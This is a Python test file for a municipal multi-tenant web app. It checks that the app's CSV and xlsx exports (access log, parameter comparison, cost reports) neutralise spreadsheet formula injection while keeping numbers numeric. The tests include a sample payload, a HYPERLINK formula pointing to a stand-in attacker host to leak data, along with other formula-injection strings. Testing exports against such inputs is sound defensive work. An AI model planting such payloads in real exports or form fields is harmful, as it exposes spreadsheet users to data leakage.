"""The export layer: no text leaves as a live spreadsheet formula, in CSV or xlsx; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask
from openpyxl import Workbook, load_workbook

from modules.costs.demo import load_demo as load_costs_demo
from modules.costs.models import CostItem, FiscalYear
from tenant_core import exports
from tenant_core.extensions import get_db, get_settings
from tenant_core.params.demo import load_demo as load_params_demo
from tests.conftest import csrf_token
from tests.params.conftest import set_param

FORMULA = '=HYPERLINK("http://evil.example/?leak","詳細")'
LIVE = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NAMES = (FORMULA, "+1+2", "-5", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", " =1+1")


def _csv_cells(body: str) -> list[list[str]]:
    assert body.startswith(exports.BOM)
    return list(csv.reader(io.StringIO(body.removeprefix(exports.BOM))))


def _no_live_text(values: list[Any]) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.lstrip(" \u3000").startswith(LIVE), repr(value)


def _no_live_cells(book_bytes: bytes) -> list[Any]:
    """Every value of every sheet, after checking that none is a formula or text that starts one."""
    book = load_workbook(io.BytesIO(book_bytes))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    _no_live_text(values)
    return values


@pytest.mark.parametrize("text", [*NAMES, "-", "=", "@"])
def test_text_that_would_start_a_formula_gets_a_quote(text: str):
    assert exports.cell(text) == "'" + text


def test_other_values_pass_unchanged():
    day = dt.date(2026, 4, 1)
    assert [exports.cell(v) for v in (-5, 3.5, 0, None, True, day, "富士市", "a=b", "")] == [
        -5, 3.5, 0, None, True, day, "富士市", "a=b", ""
    ]  # fmt: skip
    assert exports.csv_row([None, -5, "-5"]) == ["", -5, "'-5"]


def test_an_xlsx_written_through_the_layer_has_no_formula_and_keeps_its_numbers():
    book = Workbook()
    exports.append_row(book.active, [*NAMES, -5, 1200, "a\x00b"])
    values = _no_live_cells(exports.workbook_bytes(book))
    # A CR is read back as LF by the standard XML parser and kept by lxml (which openpyxl uses when installed).
    read = [v.replace("\r", "\n") for v in values[: len(NAMES)]]
    assert read == ["'" + n.replace("\r", "\n") for n in NAMES]
    assert values[len(NAMES) :] == [-5, 1200, "ab"]  # what openpyxl cannot store is dropped, not fatal


def test_the_access_log_csv_neutralises_a_formula_user_agent(app: Flask, client, staff_client):
    token = csrf_token(client, "/fuji/login")
    response = client.post(
        "/fuji/login",
        data={"login": "admin", "password": "wrong-password", "csrf_token": token},
        headers={"User-Agent": FORMULA},
    )
    assert response.status_code == 200  # refused, and logged with its user agent
    body = staff_client("fuji", "admin").get("/fuji/admin/audit/export.csv").get_data(as_text=True)
    rows = _csv_cells(body)
    agent = rows[0].index("ユーザーエージェント")
    assert "'" + FORMULA in [r[agent] for r in rows[1:]]
    for row in rows:
        _no_live_text(row)
    assert all(r[0].isdigit() for r in rows[1:])  # seq still a number


def test_the_fit_gap_workbook_neutralises_a_formula_parameter(app: Flask, staff_client, db_connection):
    list(load_params_demo(get_db(app), get_settings(app), ["fuji", "fujinomiya"]))
    set_param(app, "fuji", "certificates.mayor_title", "=1+2")
    set_param(app, "fujinomiya", "certificates.mayor_title", "@SUM(A1)")
    response = staff_client("fuji", "admin").get("/fuji/admin/params/compare.xlsx?module=certificates")
    assert response.status_code == 200
    values = _no_live_cells(response.data)
    assert "'=1+2" in values and "'@SUM(A1)" in values


def _name_items(app: Flask, year: int, names: tuple[str, ...]) -> None:
    """Rename the year's items as a secretariat typing them would (the form accepts such text)."""
    with get_db(app).session() as session:
        fy = session.scalar(sa.select(FiscalYear).where(FiscalYear.year == year))
        items = list(session.scalars(sa.select(CostItem).where(CostItem.fiscal_year_id == fy.id)))
        for item, name in zip(items, names, strict=False):
            item.name = name
        session.commit()


def test_the_cost_exports_neutralise_formula_item_names_and_keep_amounts_numbers(app: Flask, staff_client):
    list(load_costs_demo(get_db(app), get_settings(app), ["fuji", "fujinomiya"]))
    admin = staff_client("fuji", "admin")
    manage = "/fuji/costs/manage/2026/"
    response = admin.post(
        f"{manage}items",
        data={
            "name": FORMULA,
            "category": "network",
            "amount": "1,000",
            "kind": "shared",
            "csrf_token": csrf_token(admin, manage),
        },
    )
    assert response.status_code == 302
    _name_items(app, 2026, ("-5", "+1+2", "@SUM(A1)"))
    finance = staff_client("fuji", "finance")

    rows = _csv_cells(finance.get("/fuji/costs/2026/export.csv?scope=all").get_data(as_text=True))
    names = {r[4] for r in rows[1:]}
    assert {"'" + FORMULA, "'-5"} <= names
    for row in rows:
        _no_live_text(row)
    amount = rows[0].index("負担額（円）")
    assert all(r[amount].lstrip("-").isdigit() for r in rows[1:])

    response = finance.get("/fuji/costs/2026/export.xlsx?scope=all")
    assert response.status_code == 200
    values = _no_live_cells(response.data)
    assert "'" + FORMULA in values and "'-5" in values
    sheet = load_workbook(io.BytesIO(response.data)).active
    amounts = [row[11] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert amounts and all(isinstance(a, int) for a in amounts)
